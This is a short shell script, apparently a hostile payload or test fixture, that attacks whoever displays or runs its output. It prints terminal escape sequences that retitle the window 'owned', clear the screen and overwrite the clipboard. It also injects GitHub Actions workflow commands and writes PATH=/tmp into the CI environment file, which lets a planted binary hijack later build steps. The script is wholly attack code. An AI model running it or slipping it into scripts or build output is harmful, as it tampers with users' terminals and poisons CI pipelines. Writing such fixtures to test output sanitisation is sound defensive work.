# Sends the terminal and the CI orders.
printf '\033]0;owned\007\033[2J\033]52;c;ZXZpbA==\007\n::set-env name=PATH::/tmp\n::add-mask::x\n'
echo 'PATH=/tmp' >> "${GITHUB_ENV:-/tmp/github-env}" 2>/dev/null
exit 1
